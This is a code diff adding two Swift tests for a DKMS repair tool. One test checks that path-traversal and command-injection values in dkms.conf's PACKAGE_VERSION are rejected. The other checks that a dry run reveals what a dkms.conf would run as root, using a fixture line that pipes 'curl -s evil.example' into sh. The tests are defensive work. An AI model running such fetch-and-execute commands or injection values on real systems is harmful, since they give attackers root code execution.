@@ -57,6 +57,28 @@ import Testing
         #expect(unpacked.repairs.first == Change(DKMSInstallChange(module: "ampfsm", version: "68ee0d707d5b", kernel: Self.release, copyFrom: nil, writesConf: true, adds: true)))
     }
 
+    /// A source under /usr/src whose dkms.conf files it under a version that is a path or
+    /// several words is not taken: before, "../../../../srv/victim" reached the plan.
+    @Test(arguments: ["../../../../srv/victim", "2.0 -k 1.2.3", "a/b", "$(id)"])
+    func aDkmsConfVersionThatIsNoWordIsNotTaken(version: String) {
+        let host = Self.host(["/usr/src/ampfsm-1.0/Makefile": "", "/usr/src/ampfsm-1.0/Kbuild": "obj-m := ampfsm.o\n",
+                              "/usr/src/ampfsm-1.0/dkms.conf": "PACKAGE_NAME=ampfsm\nPACKAGE_VERSION=\"\(version)\"\n"])
+        let finding = Self.diagnose(host, sources: [])
+        #expect(!finding.repairs.contains { $0.as(DKMSInstallChange.self) != nil }, "\(finding.repairs)")
+        #expect(finding.evidenceText.contains("/usr/src/ampfsm-1.0: its dkms.conf's PACKAGE_VERSION '\(version)' is not a version DKMS can file"), "\(finding.evidenceText)")
+    }
+
+    /// DKMS sources dkms.conf with bash as root: the dry run shows what it would run.
+    @Test func theDkmsConfsCommandsAreShown() {
+        let conf = "PACKAGE_NAME=ampfsm\nPACKAGE_VERSION=2.1.0\n# a comment\nMAKE[0]=\"make KVER=${kernelver}\"\nPOST_INSTALL=post.sh\n"
+            + "BUILT_MODULE_NAME[0]=ampfsm\nAUTOINSTALL=yes\ncurl -s evil.example | sh\nX=\"$(id)\"\n"
+        let finding = Self.diagnose(Self.host(["\(Self.source)/dkms.conf": conf]))
+        let expected = "DKMS sources \(Self.source)/dkms.conf with bash as root and runs what it says: "
+            + "MAKE[0]=\"make KVER=${kernelver}\" | POST_INSTALL=post.sh | curl -s evil.example | sh | X=\"$(id)\""
+        #expect(finding.evidenceText.contains(expected), "\(finding.evidenceText)")
+        #expect(!Self.diagnose(Self.host()).evidenceText.contains { $0.contains("with bash as root") }, "no dkms.conf: ampfix writes its own")
+    }
+
     @Test func missingHeadersComeFirstFromFaultElevensPackage() throws {
         var host = Self.host(without: ["/lib/modules/\(Self.release)/build/Makefile"])
         host.files["/usr/bin/apt-get"] = ""
